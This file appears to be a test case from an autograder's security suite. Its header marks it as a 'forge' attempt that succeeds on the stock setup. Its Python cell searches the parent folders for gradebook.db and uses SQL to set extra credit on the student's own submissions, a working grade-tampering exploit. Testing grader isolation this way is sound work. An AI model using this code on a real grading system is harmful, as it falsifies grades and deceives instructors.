# tries: find the gradebook above the working folder and give oneself extra credit
# kind: forge
# honest: 0
# stock: succeeds

# %% before first
import sqlite3
from pathlib import Path

student = Path.cwd().parent.name
for folder in Path.cwd().parents:
    if (folder / "gradebook.db").exists():
        with sqlite3.connect(folder / "gradebook.db") as gradebook:
            gradebook.execute(
                "UPDATE grade SET extra_credit = 1 WHERE notebook_id IN (SELECT n.id FROM "
                "submitted_notebook n JOIN submitted_assignment a ON n.assignment_id = a.id "
                "WHERE a.student_id = ?)",
                (student,),
            )
